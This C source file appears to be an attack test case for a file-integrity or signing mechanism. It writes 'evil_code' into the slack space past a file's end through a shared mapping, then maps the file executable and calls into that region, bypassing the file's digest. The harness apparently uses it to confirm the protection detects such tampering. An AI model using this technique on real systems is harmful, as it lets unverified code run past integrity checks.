/*
 * The last page of a file has room behind its end. What is written there through a shared mapping is no part of
 * the file and none of its digest, and it runs from where the page is mapped executable.
 * Must be seen: that the file's digest is not believed.
 */
#include "attack.h"

ATTACK(past_the_end)
{
	size_t size = size_of(PROGRAM), end = (size + 63) & -64;
	char *bytes, *code;
	int fd;

	if (size / PAGE != end / PAGE)
		absent("room behind the end");
	bytes = dirty_mapping(PROGRAM);
	memcpy(bytes + end, evil_code, sizeof(evil_code));
	munmap(bytes, size);
	fd = opened(PROGRAM, O_RDONLY);
	code = mapped(mmap(0, size, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0), "mmap " PROGRAM);
	call(code + end);
	return 0;
}
